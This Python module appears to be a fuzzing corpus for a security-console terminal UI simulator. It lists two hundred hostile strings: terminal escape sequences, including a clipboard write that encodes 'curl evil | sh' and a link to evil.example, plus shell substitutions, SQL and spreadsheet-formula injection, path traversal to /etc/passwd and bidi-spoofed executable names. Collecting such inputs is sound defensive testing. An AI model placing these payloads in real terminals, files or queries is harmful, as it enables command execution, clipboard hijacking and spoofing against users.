"""Two hundred texts an attacker, or a broken program, may put where a tenant holds text.

Used by the fault `hostile`: every tenant text of an answer becomes one of them. Tests take the list from here too.
"""

from __future__ import annotations

from functools import cache
from typing import Any
from zlib import crc32

from mdetui.simulator.hostile_fields import FIELDS

HUGE = 100_000

_ESCAPES = (
    "\x1b[2J\x1b[H",
    "\x1b[31mred\x1b[0m",
    "\x1b[?1049h",
    "\x1b[?1049l",
    "\x1b[?1003h\x1b[?1006h",
    "\x1b[?25l",
    "\x1b[8m hidden \x1b[0m",
    "\x1b[1;1H\x1b[K",
    "\x1b[5;10r",
    "\x1b[6n",
    "\x1b[c",
    "\x1b[>0q",
    "\x1b[201~:q\r",
    "\x1b[20t\x1b[21t",
    "\x1b[3J",
    "\x1bc",
    "\x1b7\x1b8",
    "\x1b(0lqqk\x1b(B",
    "\x1b#8",
    "\x1b]0;owned\x07",
    "\x1b]2;owned\x1b\\",
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "\x1b]52;p;?\x1b\\",
    "\x1b]10;?\x07\x1b]11;?\x07",
    "\x1b]1337;File=inline=1:AAAA\x07",
    "\x1b]133;A\x07",
    "\x1b]777;notify;a;b\x07",
    "\x1bP+q544e\x1b\\",
    "\x1bP1$r0m\x1b\\",
    "\x1bPtmux;\x1b\x1b]52;c;QQ==\x07\x1b\\",
    "\x1b_Gi=1,a=q;\x1b\\",
    "\x1b^private\x1b\\",
    "\x1bXstring\x1b\\",
    "\x9b31mred\x9b0m",
    "\x9d52;c;QQ==\x9c",
    "\x90+q\x9c",
    "\x1b",
    "ends with \x1b[",
    "\x1b[999999999999999999m",
    "\x1b]4;1;rgb:00/00/00\x07",
    "\x1b]9;4;1;50\x07",
    "\x1b[?2004l\x1b[?2026h",
    "\x1b[<u\x1b[>1u",
)
_MARKUP = (
    "[bold red]x[/bold red]",
    "[/]",
    "[/bold]",
    "[link=https://evil.example]x[/link]",
    "[@click=app.quit]quit[/]",
    "[@click='app.bell']x[/]",
    "[on red]",
    "[$error]x",
    "\\[bold]",
    "[[double]]",
    "[not closed",
    "[b][i][u][s][r]",
    ":skull: :warning:",
    "{0} {name} {",
    "%s %d %(x)s %",
    "${HOME} $(id) `id`",
    "<b>x</b> <script>alert(1)</script>",
    "&amp; &lt; &#x1b;",
    "\\x1b[31m \\u202e \\033",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "../../../etc/passwd",
    "C:\\..\\..\\Windows\\x",
    "\\\\evil.example\\share\\x",
    "CON",
    "'; DROP TABLE alerts; --",
    "' or 1 eq 1 or '",
    'he said "x", then left',
    "a,b;c|d",
    "--help",
    "-rf /",
    "null",
    "None",
    "undefined",
    "0x1b",
    "[/][/][/]",
    "[bold]\x1b[0m[/bold]",
    "\n[red]next line[/red]",
    "<!--#exec cmd=id-->",
)
_BIDI = (
    "\u202egnp.exe",
    "\u202dleft",
    "\u202aembed\u202c",
    "\u202bembed\u202c",
    "\u2066iso\u2069",
    "\u2067iso\u2069",
    "\u2068iso\u2069",
    "a\u200eb",
    "a\u200fb",
    "a\u061cb",
    "dc-01\u202e",
    "invoice\u202efdp.exe",
)
_UNSEEN = (
    "a\u200bb",
    "a\u200cb",
    "a\u200db",
    "a\u2060b",
    "\ufeffbom",
    "a\u180eb",
    "soft\u00adhyphen",
    "\U000e0001\U000e0041\U000e007f",
    "a\ufe0fb\ufe0e",
    "\u3164",
    "\u2800\u2800",
    "\u115f\u1160",
    "\uffa0",
    "",
    " ",
    "\u00a0\u2003\u3000",
    "\ufff9anno\ufffatation\ufffb",
    "\ue000\uf8ff",
    "\U0010ffff\uffff",
    "\ufffd",
)
_LINES = (
    "one\ntwo",
    "one\r\ntwo",
    "one\rover",
    "\n\n\n\n",
    "one\u2028two",
    "one\u2029two",
    "one\x0btwo\x0cthree",
    "one\x85two",
    "tab\tstop\t",
    "back\x08\x08\x08\x08gone",
)
_WIDE = (
    "漢字の題名",
    "ｆｕｌｌｗｉｄｔｈ",
    "한국어 제목",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 family",
    "\U0001f1e9\U0001f1ea flag",
    "\U0001f44d\U0001f3fd",
    "e\u0301 o\u0308",
    "\u0301starts with a mark",
    "z" + "\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 12,
    "\u0e01\u0e33\u0e49",
    "\u0915\u094d\u0937\u0947\u0924\u094d\u0930",
    "\u0634\u0631\u0643\u0629",
    "\u05e9\u05dc\u05d5\u05dd abc",
    "\ufdfd",
    "\U0001f3f4\U000e0067\U000e0062\U000e007f",
    "\u2588\u2591\u2592",
    "\ud83d",
    "\udc00 low",
)
_HUGE = ("A" * HUGE, "漢" * HUGE, "a\u0301" * (HUGE // 2), "\x1b[31m" * (HUGE // 5), "word " * (HUGE // 5))


@cache
def strings() -> tuple[str, ...]:
    """The two hundred: control characters one by one, escape sequences, markup, bidi, blanks, wide, huge."""
    controls = [f"c{chr(code)}d" for code in (*range(0x20), 0x7F)]
    eight_bit = [f"x{chr(code)}y{chr(code + 1)}z" for code in range(0x80, 0xA0, 2)]
    return (*_ESCAPES, *_MARKUP, *_BIDI, *_UNSEEN, *_LINES, *_WIDE, *controls, *eight_bit, *_HUGE)


# what filter and triage steer by is left alone in most rows, so that the program gets far enough to show the rest
_STEERING = frozenset(
    [
        "severity",
        "status",
        "healthstatus",
        "riskscore",
        "exposurelevel",
        "devicevalue",
        "classification",
        "determination",
        "entitytype",
    ]
)


def poison(value: Any) -> Any:
    """An entity or a list of entities with every tenant text replaced: the same row always gets the same texts."""
    if isinstance(value, list):
        return [_Row(one, number).poisoned(one) for number, one in enumerate(value)]
    return _Row(value, 0).poisoned(value)


class _Row:
    """Walks one row and hands out texts in turn, from a place that the row's id decides."""

    def __init__(self, row: Any, number: int) -> None:
        key = str(row.get("id", number)) if isinstance(row, dict) else str(number)
        self._next = crc32(key.encode())
        self._steers = self._next % 10 != 9
        # 100 kB in every row would make a page of gigabytes
        self._long = self._next // 200 % 3 == 0

    def poisoned(self, value: Any) -> Any:
        if isinstance(value, list):
            return [self.poisoned(one) for one in value]
        if isinstance(value, dict) and set(value) == {"key", "value"}:
            # a parameter of a live response command: its value is what somebody typed
            return {**value, "value": self._text()}
        if isinstance(value, dict):
            return {key: self._field(key.lower(), one) for key, one in value.items()}
        return value

    def _field(self, key: str, value: Any) -> Any:
        if key not in FIELDS or (key in _STEERING and self._steers):
            return self.poisoned(value)
        if isinstance(value, str):
            return self._text()
        if isinstance(value, list):
            return [self._text() if isinstance(one, str) else self.poisoned(one) for one in value]
        return self.poisoned(value)

    def _text(self) -> str:
        self._next += 1
        # 7 has no factor in common with 200: neighbours get unlike texts, and every text has its turn
        text = strings()[self._next * 7 % 200]
        return text if self._long else text[:300]
